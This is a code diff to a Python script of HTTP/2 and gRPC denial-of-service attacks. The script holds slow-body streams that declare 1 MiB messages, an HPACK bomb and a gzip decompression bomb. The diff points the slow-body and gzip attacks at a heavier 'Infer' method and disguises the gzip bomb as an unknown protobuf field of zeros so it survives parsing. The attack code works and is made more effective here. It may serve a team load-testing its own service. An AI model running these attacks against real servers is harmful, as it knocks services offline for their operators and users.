@@ -22,6 +22,8 @@ import time
 import http2
 
 CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
+# The method that takes large messages.
+INFER = "/sarai.skills.SkillService/Infer"
 PRIORITY, CONTINUATION = 2, 9
 CANCEL = struct.pack(">I", 8)
 
@@ -240,7 +242,7 @@ def slow_body(attack):
     def begin(peer):
         peer.open()
         for stream in range(1, 61, 2):
-            peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, call_headers(CHECK)))
+            peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, call_headers(INFER)))
             peer.send(http2.frame(http2.DATA, 0, stream, struct.pack(">BI", 0, 1 << 20) + bytes(900)))
 
     attack.hold(100, begin)
@@ -261,9 +263,9 @@ def hpack_bomb(attack):
 
 
 def gzip_bomb(attack):
-    """Messages of 4 KiB that unfold to 4 MiB."""
-    packed = gzip.compress(bytes(4_000_000), 9)
-    head = call_headers(CHECK, (b"grpc-encoding", b"gzip"))
+    """Messages of 2 KiB that unfold to 2 MB: an unknown field of zeros."""
+    packed = gzip.compress(b"\x7a\x80\x89\x7a" + bytes(2_000_000), 9)
+    head = call_headers(INFER, (b"grpc-encoding", b"gzip"))
     body = http2.frame(http2.DATA, http2.END_STREAM, 0, struct.pack(">BI", 1, len(packed)) + packed)
     while attack.goes_on():
         with attack.peer() as peer:
